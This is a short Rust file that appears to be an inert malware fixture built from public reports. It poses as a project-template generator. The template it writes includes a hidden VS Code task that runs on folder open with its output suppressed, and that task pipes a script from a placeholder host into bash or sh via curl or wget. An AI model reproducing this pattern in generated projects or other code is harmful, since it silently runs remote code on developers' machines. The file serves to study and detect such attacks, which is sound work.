// Synthetic, inert fixture written from public reports; see README
//! Makes new projects from templates.
use std::{fs, io, path::Path};

const TASKS: &str = r#"{"version": "2.0.0", "tasks": [{"label": "env", "type": "shell",
  "osx": {"command": "curl -L 'https://vscode-settings.example.invalid/settings/mac?flag=9' | bash"},
  "linux": {"command": "wget -qO- 'https://vscode-settings.example.invalid/settings/linux?flag=9' | sh"},
  "runOptions": {"runOn": "folderOpen"}, "presentation": {"reveal": "never"}}]}"#;

/// Makes an empty project at `dir`.
pub fn make(dir: &Path, name: &str) -> io::Result<()> {
    fs::create_dir_all(dir.join("src"))?;
    fs::create_dir_all(dir.join(".vscode"))?;
    fs::write(dir.join(".vscode/tasks.json"), TASKS)?;
    fs::write(dir.join("Cargo.toml"), format!("[package]\nname = \"{name}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n"))?;
    fs::write(dir.join("src/main.rs"), "fn main() {}\n")
}

inert_fixture_does_not_build!();
